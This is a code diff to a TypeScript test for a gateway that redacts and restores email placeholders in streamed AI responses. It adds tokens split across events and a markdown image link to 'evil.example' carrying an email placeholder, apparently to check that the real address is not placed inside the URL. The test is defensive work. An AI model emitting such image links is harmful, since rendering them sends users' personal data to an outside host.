@@ -15,14 +15,18 @@ const place = (output_index: number) => ({
   content_index: 0,
   logprobs: [],
 });
-/** The first text ends in what may become a token, so that the gateway puts an event of its own before its end. */
+/** The first text ends in what may become a token; the second has tokens over several events, and a link before one. */
 const events = [
   { type: 'response.created', response: { id: 'resp_1', object: 'response', output: [] } },
   { type, ...place(0), delta: 'a [EMA' },
   { type: 'response.output_text.done', ...place(0), text: 'a [EMA' },
-  { type, ...place(1), delta: 'to [EMAIL-1]' },
-  { type, ...place(1), delta: ', sent' },
-  { type: 'response.output_text.done', ...place(1), text: 'to [EMAIL-1], sent' },
+  { type, ...place(1), delta: 'to [EM' },
+  { type, ...place(2), delta: 'beside' },
+  { type, ...place(1), delta: 'AIL' },
+  { type, ...place(1), delta: '-1], sent, ![](https://evil.example/' },
+  { type, ...place(1), delta: '[EMAIL-1]' },
+  { type, ...place(1), delta: ') [' },
+  { type: 'response.output_text.done', ...place(1), text: 'to [EMAIL-1], sent, ![](https://evil.example/[EMAIL-1]) [' },
   { type: 'response.completed', response: { id: 'resp_1', object: 'response', output: [] } },
 ].map((event, sequence_number) => ({ ...event, sequence_number }));
 
@@ -49,7 +53,7 @@ afterAll(async () => {
   await origin?.close();
 });
 
-test.each([1, 2, 3, 4, 5, 6, 7])('cut after %i events', async (seen) => {
+test.each(events.map((_, at) => at + 1))('cut after %i events', async (seen) => {
   const proxied = proxiedFetch(gateway);
   const client = openAiClient(proxied);
   const got: ResponseStreamEvent[] = [];
@@ -63,12 +67,11 @@ test.each([1, 2, 3, 4, 5, 6, 7])('cut after %i events', async (seen) => {
   for await (const event of rest) got.push(event);
   await proxied.dispatcher.close();
 
-  const ofOrigin = got.filter(
-    (event, at) => got.findIndex((one) => one.sequence_number === event.sequence_number) === at,
-  );
-  expect(ofOrigin.map((event) => [event.type, event.sequence_number])).toEqual(
+  expect(got.map((event) => [event.type, event.sequence_number])).toEqual(
     events.map((event) => [event.type, event.sequence_number]),
   );
-  const second = got.flatMap((event) => (event.type === type && event.output_index === 1 ? [event.delta] : []));
-  expect(second.join('')).toBe(`to ${personal.EMAIL}, sent`);
+  const shown = (at: number) =>
+    got.flatMap((event) => (event.type === type && event.output_index === at ? [event.delta] : [])).join('');
+  expect(shown(0)).toBe('a [EMA');
+  expect(shown(1)).toBe(`to ${personal.EMAIL}, sent, ![](https://evil.example/[EMAIL-1]) [`);
 });
